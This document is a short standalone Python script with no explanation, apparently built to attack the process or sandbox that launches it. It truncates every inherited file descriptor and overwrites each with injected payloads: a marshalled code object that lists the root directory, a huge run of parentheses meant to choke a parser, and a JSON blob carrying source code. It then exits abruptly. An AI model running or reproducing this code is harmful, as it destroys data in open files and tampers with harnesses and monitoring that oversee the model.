import os

def others():
    for fd in range(3, 512):
        try:
            os.fstat(fd)
        except OSError:
            continue
        yield fd


import json, marshal
text = "import os\nprint(sorted(os.listdir('/')))"
for data in (marshal.dumps(compile(text, "x", "exec")), b"(" * 400_000, json.dumps({"source": text}).encode()):
    for fd in others():
        try:
            os.ftruncate(fd, 0)
            os.pwrite(fd, data, 0)
        except OSError:
            pass
os._exit(3)
